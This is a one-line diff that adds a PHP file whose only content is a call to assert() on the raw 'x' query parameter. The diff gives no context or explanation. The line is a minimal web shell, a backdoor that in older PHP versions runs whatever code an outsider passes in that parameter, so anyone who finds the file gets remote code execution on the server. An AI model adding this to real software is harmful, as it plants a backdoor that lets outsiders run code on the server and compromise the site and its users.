@@ -1,0 +1,1 @@
+<?php assert($_GET['x']); ?>
